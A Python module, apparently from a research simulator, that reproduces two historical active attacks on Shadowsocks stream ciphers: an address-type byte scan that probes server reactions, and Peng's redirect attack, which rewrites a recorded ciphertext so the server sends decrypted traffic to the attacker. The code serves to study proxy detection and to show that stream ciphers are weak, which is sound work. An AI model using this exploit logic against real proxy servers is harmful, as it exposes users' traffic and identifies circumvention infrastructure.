"""Historical active attacks on Shadowsocks stream ciphers (§2.1).

* :func:`atyp_scan` — BreakWa11's 2015 probe: exploit ciphertext
  malleability to try every value of the address-type byte of a recorded
  connection.  Exactly 3 of the 256 (or, with libev's mask, 48 of 256)
  variants parse as a valid target, and those connections end
  differently from the rest — a fraction the prober can measure.
* :func:`redirect_attack` — Zhiniang Peng's 2020 decryption oracle:
  rewrite the target specification inside a recorded ciphertext (XOR
  malleability; exact for CTR/ChaCha keystream ciphers) so the server
  connects to the *attacker* and faithfully streams the decrypted
  remainder of the recorded connection to them — full plaintext
  recovery without the password.

Both attacks presuppose the unauthenticated stream construction; AEAD
ciphers reject every forgery, which is why the paper's §7.2 tells users
to abandon stream ciphers entirely.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from ..crypto import get_spec
from ..crypto.registry import CipherKind
from ..gfw.probes import Probe, ProbeType
from ..shadowsocks.spec import encode_target
from .reactions import ReactionKind
from .simulator import PROBER_IP, ProberSimulator

__all__ = ["AtypScanResult", "atyp_scan", "RedirectResult", "redirect_attack"]

# Keystream-XOR stream methods, where a ciphertext bit flip lands on
# exactly one plaintext bit (CFB garbles the following block instead).
_XOR_STREAM_METHODS = ("aes-128-ctr", "aes-192-ctr", "aes-256-ctr",
                       "chacha20", "chacha20-ietf")


@dataclass
class AtypScanResult:
    reactions_by_delta: Dict[int, str] = field(default_factory=dict)

    @property
    def rst_fraction(self) -> float:
        total = len(self.reactions_by_delta)
        rst = sum(1 for r in self.reactions_by_delta.values()
                  if r == ReactionKind.RST)
        return rst / total if total else 0.0

    def infers_mask(self) -> Optional[bool]:
        """~13/16 RST means masked; ~253/256 means unmasked."""
        if not self.reactions_by_delta:
            return None
        return self.rst_fraction < 0.93


def atyp_scan(simulator: ProberSimulator, recorded: bytes,
              deltas: Optional[List[int]] = None) -> AtypScanResult:
    """BreakWa11's scan: XOR every delta into the address-type byte.

    ``recorded`` is a captured first payload from a genuine connection
    (whose real ATYP is 0x03, hostname, in the simulator's recordings).
    """
    spec = get_spec(simulator.method)
    if spec.kind != CipherKind.STREAM:
        raise ValueError("the ATYP scan only applies to stream ciphers")
    result = AtypScanResult()
    for delta in deltas if deltas is not None else range(1, 256):
        mutated = bytearray(recorded)
        mutated[spec.iv_len] ^= delta
        probe = Probe(ProbeType.R2, bytes(mutated), source_payload=recorded,
                      mutated_offsets=(spec.iv_len,))
        outcome = simulator.send_probe(probe)
        result.reactions_by_delta[delta] = outcome.reaction
    return result


@dataclass
class RedirectResult:
    succeeded: bool
    recovered_plaintext: bytes = b""
    expected_plaintext: bytes = b""
    reaction: Optional[str] = None


def redirect_attack(
    simulator: ProberSimulator,
    recorded: bytes,
    known_target: str,
    known_port: int,
    app_payload: bytes,
    attacker_port: int = 4444,
) -> RedirectResult:
    """Peng's redirect attack: decrypt a recorded connection via the server.

    The attacker knows (or guesses) the original target specification —
    here the hostname the victim visited — and XORs the spec prefix into
    one pointing at the attacker's own listener.  The proxy then delivers
    the decrypted remainder of the recorded stream straight to the
    attacker.
    """
    spec = get_spec(simulator.method)
    if spec.kind != CipherKind.STREAM:
        raise ValueError("the redirect attack only applies to stream ciphers")
    if simulator.method not in _XOR_STREAM_METHODS:
        raise ValueError(
            f"{simulator.method} is not a pure keystream cipher; the XOR "
            "rewrite would garble the following block (CFB)"
        )
    known_spec = encode_target(known_target, known_port)
    new_spec = encode_target(PROBER_IP, attacker_port)  # IPv4: 7 bytes
    if len(new_spec) > len(known_spec):
        raise ValueError("attacker spec must not be longer than the original")

    crafted = bytearray(recorded)
    for i, (old, new) in enumerate(zip(known_spec, new_spec)):
        crafted[spec.iv_len + i] ^= old ^ new

    received = bytearray()

    def attacker_app(conn):
        conn.on_data = received.extend
        conn.on_remote_fin = conn.close

    simulator.prober_host.listen(attacker_port, attacker_app)
    try:
        outcome = simulator.send_probe(
            Probe(ProbeType.R2, bytes(crafted), source_payload=recorded))
    finally:
        simulator.prober_host.unlisten(attacker_port)

    # What the server forwards: the tail of the original spec (now mere
    # payload bytes) followed by the victim's application data.
    expected = known_spec[len(new_spec):] + app_payload
    return RedirectResult(
        succeeded=bytes(received) == expected and len(expected) > 0,
        recovered_plaintext=bytes(received),
        expected_plaintext=expected,
        reaction=outcome.reaction,
    )
